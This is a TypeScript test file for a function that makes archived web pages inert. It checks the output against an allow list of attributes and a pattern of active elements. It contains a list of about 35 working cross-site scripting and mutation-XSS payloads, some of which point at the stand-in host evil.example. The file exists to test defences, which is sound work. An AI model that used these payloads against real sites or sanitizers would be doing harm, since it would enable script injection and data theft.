import { describe, expect, test } from 'vitest'
import { parse, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { extractPage } from '../../../src/main/extraction/index.ts'
import { inertPage, MARKED_PICTURE_ID } from '../../../src/main/extraction/inert.ts'
import { sharedData } from '../../support/shared-data.ts'
import { PAGE_URL, pageOf } from './page-of.ts'
import { realPages, SAMPLE } from './real-pages.ts'

const NOTHING = { tagStart: -1, before: null, after: null, caption: null }

function inert(html: string, address: (url: string) => string | null = () => null): string {
  return inertPage(html, PAGE_URL, NOTHING, address)
}

/** What a browser would build of it. */
function elements(html: string): Tree.Element[] {
  const found: Tree.Element[] = []
  const stack: Tree.Node[] = [parse(html)]
  while (stack.length > 0) {
    const node = stack.pop() as Tree.Node
    if ('tagName' in node) found.push(node)
    if ('content' in node) stack.push(node.content)
    if ('childNodes' in node) stack.push(...node.childNodes)
  }
  return found
}

const HARMLESS_ATTRIBUTES = new Set(
  'class id title alt lang dir width height align valign bgcolor color face size border cellpadding cellspacing colspan rowspan span start value reversed hidden datetime open nowrap clear aria-label aria-hidden role style src charset content http-equiv name'.split(
    ' ',
  ),
)
const ACTIVE =
  /^(script|iframe|object|embed|applet|frame|frameset|base|link|form|input|button|select|textarea|svg|math|template|audio|video|source|portal|noscript|marquee)$/

function expectInert(html: string): void {
  for (const element of elements(html)) {
    expect(element.tagName).not.toMatch(ACTIVE)
    for (const { name, value } of element.attrs) {
      expect(HARMLESS_ATTRIBUTES).toContain(name)
      expect(name).not.toMatch(/^on/)
      if (name === 'src') expect(value).toMatch(/^(gleaner:|data:image\/(png|jpeg|gif|webp|avif);)/)
      if (name === 'style') expect(value).not.toMatch(/url|expression|javascript|binding|@import/i)
      if (name === 'http-equiv') expect(value).toBe('Content-Security-Policy')
    }
    if (element.tagName === 'style') {
      const css = element.childNodes.map((child) => ('value' in child ? child.value : '')).join('')
      expect(css).not.toMatch(/url\(|@import|expression\(|javascript:|https?:/i)
    }
  }
}

describe('a page made inert', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action=//evil.example><button formaction=javascript:alert(1)>x</button><input autofocus onfocus=alert(1)></form>',
    '<a href="javascript:alert(1)" target=_blank ping=//evil.example>x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<iframe src=//evil.example></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=x></object><embed src=x><applet code=x></applet>',
    '<base href=//evil.example><link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=x>',
    '<meta http-equiv=refresh content="0;url=//evil.example"><meta http-equiv=content-security-policy content="">',
    '<style>@import "//evil.example";body{background:url(//evil.example/x)}</style>',
    '<style>@im\\port url(x); a{background:u\\72l(http://evil.example)} </style>',
    '<style>a{color:red}/* <!-- </style><script>alert(1)</script> --> */</style>',
    '<div style="background:url(//evil.example)">x</div>',
    '<div style="width:expre/**/ssion(alert(1));behavior:url(x)">x</div>',
    '<div style="background-image:image-set(\'//evil.example/x\' 1x)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<title></title><script>alert(1)</script></title>',
    '<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>',
    '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
    '<textarea></textarea><script>alert(1)</script>',
    '<template><script>alert(1)</script></template>',
    '<video poster=//evil.example/x onplay=a()><source src=x onerror=alert(1)></video>',
    '<img src="//evil.example/x.png" srcset="//evil.example/y.png 2x" lowsrc=z>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
    '<table background=//evil.example/x><tr><td background=javascript:alert(1)>x</table>',
    '<body onload=alert(1) background=//evil.example/x>',
    '<p id="gleaner-picture" style="x:\\65xpression(alert(1))">x</p>',
    '<x-custom onclick=alert(1)>x</x-custom><isindex type=image src=1 onerror=alert(1)>',
    '<a title="&quot;><script>alert(1)</script>">x</a>',
    '<p title=\'" onmouseover="alert(1)\'>x</p>',
    '<style><!--</style><img title="--><script>alert(1)</script>">',
    '\0<scr\0ipt>alert(1)</scr\0ipt>',
  ])('nothing runs, loads or leaves: %s', (payload) => {
    expectInert(inert(payload))
    expectInert(inert(`<!doctype html><p>before ${payload} <b>after</b><svg>${payload}`))
  })

  test('it carries a policy that forbids everything but pictures of the program', () => {
    expect(inert('<p>x')).toContain(
      `content="default-src 'none'; img-src gleaner: data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"`,
    )
  })

  test('text, structure and own styles stay as they were', () => {
    const html = inert(
      '<h1 class=a>A &lt; B</h1><table><tr><td colspan=2>x</table><p style="color:red">y</p>',
    )
    expect(html).toContain('<h1 class="a">A &lt; B</h1>')
    expect(html).toContain('<td colspan="2">x</td>')
    expect(html).toContain('<p style="color:red">y</p>')
  })

  test('pictures come from the corpus, by any of their addresses', () => {
    const asked: string[] = []
    const html = inert('<img data-src=b.jpg src=a.jpg><img src=c.jpg>', (url) => {
      asked.push(url)
      return url.endsWith('/a.jpg') ? 'gleaner://picture/1' : null
    })
    expect(asked.map((url) => url.split('/').at(-1))).toEqual(['b.jpg', 'a.jpg', 'c.jpg'])
    expect(html).toContain('<img src="gleaner://picture/1">')
    expect(html).not.toContain('c.jpg')
  })

  test('the picture of the pair is outlined and its words are marked', () => {
    const html =
      '<p>Before  the <b>cat</b></p><nav>Before the cat</nav><figure><img src=a><img src=b><figcaption>The cat</figcaption></figure><p>After the cat</p><p>cat</p>'
    const pair = pageOf(html).pairs[1]
    if (!pair) throw new Error('no pair')
    const shown = inertPage(html, PAGE_URL, pair, () => null)
    expect(shown.match(new RegExp(`id="${MARKED_PICTURE_ID}"`, 'g'))).toHaveLength(1)
    expect(shown.indexOf('<img>')).toBeLessThan(shown.indexOf(`<img id="${MARKED_PICTURE_ID}"`))
    expect(shown).toContain(
      '<mark class="gleaner gleaner-before">Before  the </mark><b><mark class="gleaner gleaner-before">cat</mark></b>',
    )
    expect(shown).toContain('<nav>Before the cat</nav>')
    expect(shown).toContain(
      '<figcaption><mark class="gleaner gleaner-caption">The cat</mark></figcaption>',
    )
    expect(shown).toContain('<p><mark class="gleaner gleaner-after">After the cat</mark></p>')
  })

  test('a base is decoded as an attribute is, so that pictures keep the addresses of the ingest', () => {
    const html = '<base href="/a?x=1&copy=2/&amp;b/"><img src="?p&amp;q">'
    const asked: string[] = []
    inert(html, (url) => (asked.push(url), null))
    expect(asked).toEqual(pageOf(html).pairs.map((pair) => pair.imageUrl))
  })

  test.for([['application/xhtml+xml'], [undefined]])(
    'XHTML sent as %s is marked where the ingest found the picture and its words',
    ([mediaType]) => {
      const xhtml =
        '<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head><script src="a.js"/><title/></head>' +
        '<body><p>Before <![CDATA[a < b]]> &amp; the cat</p><div/><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="a?x=1&amp;y=2"/><p>After it</p></body></html>'
      const meta = {
        charset: 'utf-8',
        charsetSource: 'http' as const,
        mediaType: 'application/xhtml+xml',
      }
      const [pair] = extractPage(xhtml, PAGE_URL, meta).pairs
      if (!pair) throw new Error('no pair')
      expect(pair.before).toBe('Before a < b & the cat')
      const asked: string[] = []
      const shown = inertPage(
        xhtml,
        PAGE_URL,
        pair,
        (url) => (asked.push(url), 'gleaner://picture/1'),
        'utf-8',
        mediaType,
      )
      expect(asked).toEqual([pair.imageUrl])
      expect(shown).toContain(`<img id="${MARKED_PICTURE_ID}" src="gleaner://picture/1">`)
      expect(shown).toContain(
        '<p><mark class="gleaner gleaner-before">Before a &lt; b &amp; the cat</mark></p>',
      )
      expect(shown).toContain('<p><mark class="gleaner gleaner-after">After it</mark></p>')
    },
  )

  test('XHTML is made as harmless as HTML', () => {
    const shown = inertPage(
      '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="x()"><s:script xmlns:s="http://www.w3.org/1999/xhtml">alert(1)</s:script>' +
        '<p onclick="x()"><![CDATA[<script>alert(2)</script>]]></p><img src="a" onerror="x()"/><xmp>&lt;/xmp&gt;&lt;script&gt;alert(3)&lt;/script&gt;</xmp></body></html>',
      PAGE_URL,
      NOTHING,
      () => null,
      'utf-8',
      'application/xhtml+xml',
    )
    expectInert(shown)
    expect(shown).toContain('&lt;script&gt;alert(2)')
  })

  test('a page that is nested too deeply or too long does no harm', () => {
    expect(() => inert('<div>'.repeat(50_000))).not.toThrow()
    expect(inert('x'.repeat(9_000_000)).length).toBeLessThan(2_000)
  })
})

test.for([
  ['the sample', SAMPLE],
  ['real archives', sharedData('warc')],
] as const)(
  'the words of the pages of %s are found again where they stand',
  async ([, folder], context) => {
    if (folder === null) return context.skip('no real data')
    let marked = 0
    let expected = 0
    for (const page of (await realPages(folder)).filter((_, i) => i % 9 === 0)) {
      const [pair] = pageOf(page.html, page.url).pairs.slice(-1)
      if (!pair) continue
      const shown = inertPage(page.html, page.url, pair, () => null)
      expectInert(shown)
      for (const side of ['before', 'after'] as const) {
        if (pair[side] === null) continue
        expected++
        if (shown.includes(`gleaner-${side}">`)) marked++
      }
      expect(shown).toContain(`id="${MARKED_PICTURE_ID}"`)
    }
    expect(expected).toBeGreaterThan(10)
    expect(marked).toBe(expected)
  },
)
